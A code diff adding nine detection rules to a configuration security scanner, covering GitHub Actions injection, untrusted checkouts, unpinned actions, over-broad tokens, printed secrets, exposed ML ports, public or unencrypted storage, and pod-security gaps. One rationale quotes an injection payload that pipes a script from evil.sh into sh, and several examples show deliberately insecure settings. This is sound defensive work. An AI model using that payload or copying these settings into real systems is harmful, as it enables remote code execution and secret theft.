@@ -419,6 +419,156 @@ SECURITY_PROFILE_OFF = _rule(
     references=(cwe(250), K8S_PSS, url("https://docs.docker.com/engine/security/seccomp/")),
 )
 
+GHA_HARDENING = url(
+    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/"
+    "security-hardening-for-github-actions"
+)
+WORKFLOW_INJECTION = _rule(
+    "CF127",
+    "workflow-script-injection",
+    "CI workflow expands untrusted event data into a script",
+    Severity.HIGH,
+    ("PS7",),
+    summary="A GitHub Actions `run:` script (or an `actions/github-script` script) contains a "
+    "`${{ }}` expression of data that whoever opens an issue, a pull request, a comment or a "
+    "branch, or fills in a dispatch form, chooses: `github.event.issue.title`, "
+    "`github.event.pull_request.body`, `github.head_ref`, `github.event.inputs.*`...",
+    rationale="The expression is pasted into the script before the shell runs it, so a title "
+    'such as `"; curl evil.sh | sh; "` runs on the runner, with the job\'s token and secrets '
+    "(on self-hosted GPU runners, inside the training network).",
+    example='run: echo "${{ github.event.issue.title }}"',
+    remediation="Pass the value through an environment variable (`env: TITLE: ${{ ... }}`) "
+    'and use `"$TITLE"` in the script.',
+    references=(cwe(78), cwe(94), GHA_HARDENING),
+)
+WORKFLOW_PR_TARGET = _rule(
+    "CF128",
+    "workflow-untrusted-checkout",
+    "pull_request_target workflow checks out the pull request's code",
+    Severity.HIGH,
+    ("PS7",),
+    summary="A workflow triggered by `pull_request_target` (which runs with the base "
+    "repository's secrets and a write token) checks out the pull request's head "
+    "(`ref: ${{ github.event.pull_request.head.sha }}`, `github.head_ref`, `refs/pull/...`).",
+    rationale="Any build, test or install step that follows runs code from a fork with the "
+    'repository\'s secrets: the "pwn request".',
+    example="on: pull_request_target\n...\n- uses: actions/checkout@v4\n  with:\n"
+    "    ref: ${{ github.event.pull_request.head.sha }}",
+    remediation="Use `pull_request` for anything that runs the contributor's code; keep "
+    "`pull_request_target` for labelling and commenting without a checkout of the head.",
+    references=(cwe(829), GHA_HARDENING),
+)
+WORKFLOW_UNPINNED_ACTION = _rule(
+    "CF129",
+    "workflow-action-not-pinned",
+    "Third-party action not pinned to a commit",
+    Severity.MEDIUM,
+    ("PS7", "PS2"),
+    summary="A workflow step `uses:` an action from outside GitHub's own `actions/` and "
+    "`github/` organisations at a tag or branch, not a full 40-character commit SHA.",
+    rationale="Tags move: a compromised action (as tj-actions/changed-files in 2025) runs "
+    "new code in every workflow that names its tag, with their secrets.",
+    example="- uses: some-org/setup-tool@v2",
+    remediation="Pin the commit: `uses: some-org/setup-tool@<40-hex sha> # v2`, and let a "
+    "bot propose updates.",
+    confidence=Confidence.HIGH,
+    references=(cwe(829), GHA_HARDENING),
+)
+WORKFLOW_PERMISSIONS = _rule(
+    "CF130",
+    "workflow-write-all",
+    "Workflow token with write access to everything",
+    Severity.MEDIUM,
+    ("PS7",),
+    summary="A workflow or job sets `permissions: write-all`.",
+    rationale="Every step, action and script of the job can then push code, publish releases "
+    "and packages and change settings with the job's token.",
+    example="permissions: write-all",
+    remediation="Grant only what the job needs (`permissions: {contents: read}` and, per job, "
+    "the one write scope it uses).",
+    references=(cwe(250), GHA_HARDENING),
+)
+WORKFLOW_SECRET_PRINTED = _rule(
+    "CF131",
+    "workflow-secret-printed",
+    "CI script prints a secret",
+    Severity.MEDIUM,
+    ("PS7", "DS2"),
+    summary="A `run:` script passes `${{ secrets.* }}` to `echo` or `printf` without "
+    "redirecting it to a file.",
+    rationale="Log masking only hides the exact value; a transformed, split or encoded copy "
+    "is printed in the clear to everyone who can read the logs.",
+    example='run: echo "token=${{ secrets.HF_TOKEN }}"',
+    remediation="Do not print secrets; pass them to the tool in an environment variable.",
+    references=(cwe(532), GHA_HARDENING),
+)
+INTERNET_INGRESS = _rule(
+    "CF132",
+    "ml-port-open-to-internet",
+    "Firewall opens an ML server port to the internet",
+    Severity.HIGH,
+    ("PS5", "PS3"),
+    summary="A Terraform security group, firewall or network rule lets `0.0.0.0/0` (or `::/0`) "
+    "reach a port ML servers listen on: Jupyter 8888, MLflow 5000, Ray 8265/10001/6379, "
+    "TensorBoard 6006, Gradio 7860, Streamlit 8501, Triton 8001-8002, TorchServe 8081-8082, "
+    "Ollama 11434, Flower 9091-9093, Dask 8786-8787 (generic web ports are left out).",
+    rationale="Most of these servers have no authentication of their own, and several run "
+    "submitted code (notebooks, Ray jobs, model loading); open to the internet, they are "
+    "found by scanners within hours.",
+    example="ingress {\n  from_port   = 8888\n  to_port     = 8888\n"
+    '  cidr_blocks = ["0.0.0.0/0"]\n}',
+    remediation="Allow only the office or VPN ranges that need the server, or put it behind "
+    "an authenticating proxy or load balancer with TLS.",
+    references=(cwe(284), cwe(306)),
+)
+PUBLIC_STORAGE = _rule(
+    "CF133",
+    "storage-public-acl",
+    "Storage readable by anyone",
+    Severity.HIGH,
+    ("PS3", "DS2"),
+    summary="A bucket or container is given a public ACL in Terraform (`acl = "
+    '"public-read"`, `predefined_acl = "publicRead"`, Azure `container_access_type = '
+    '"blob"`).',
+    rationale="Training data, model weights and features stored there can be listed and "
+    "downloaded by anyone on the internet.",
+    example='acl = "public-read"',
+    remediation='Use `acl = "private"` (and block public access); share through signed URLs.',
+    references=(cwe(284), cwe(552)),
+)
+UNENCRYPTED_STORAGE = _rule(
+    "CF134",
+    "storage-encryption-off",
+    "Storage or transfer encryption turned off",
+    Severity.MEDIUM,
+    ("PS4",),
+    summary="A Terraform resource sets `encrypted = false`, `storage_encrypted = false`, "
+    "`encrypt_at_rest = false` or `enable_https_traffic_only = false`.",
+    rationale="Disks, databases and storage accounts holding datasets and models are then "
+    "readable from snapshots, backups or the wire without a key.",
+    example="storage_encrypted = false",
+    remediation="Turn encryption on (with a customer-managed KMS key for sensitive data).",
+    references=(cwe(311),),
+)
+PSS_RESTRICTED = _rule(
+    "CF135",
+    "pss-restricted-gaps",
+    "Container short of the Restricted pod security profile",
+    Severity.LOW,
+    ("PS7",),
+    summary="A Kubernetes container (in any workload or custom resource) does not drop ALL "
+    "capabilities, or neither it nor its pod sets a `RuntimeDefault` or `Localhost` seccomp "
+    "profile: two requirements of the Pod Security Standards' Restricted profile that the "
+    "other rules (privileged, root, escalation, added capabilities) do not cover.",
+    rationale="A namespace enforcing the Restricted profile rejects the pod; elsewhere the "
+    "container keeps capabilities and system calls a model server never needs, which a "
+    "container escape uses.",
+    example="securityContext:\n  allowPrivilegeEscalation: false",
+    remediation="Add `capabilities: {drop: [ALL]}` to the container's securityContext and "
+    "`seccompProfile: {type: RuntimeDefault}` to the pod's.",
+    references=(K8S_PSS,),
+)
+
 RULES = (
     CONTAINER_ROOT,
     UNPINNED_BASE_IMAGE,
@@ -447,5 +597,14 @@ RULES = (
     WORLD_WRITABLE,
     PASSWORDLESS_SUDO,
     SECURITY_PROFILE_OFF,
+    WORKFLOW_INJECTION,
+    WORKFLOW_PR_TARGET,
+    WORKFLOW_UNPINNED_ACTION,
+    WORKFLOW_PERMISSIONS,
+    WORKFLOW_SECRET_PRINTED,
+    INTERNET_INGRESS,
+    PUBLIC_STORAGE,
+    UNENCRYPTED_STORAGE,
+    PSS_RESTRICTED,
 )
 __all__ = [r for r in dir() if r.isupper() and r not in ("C", "K8S_PSS")]
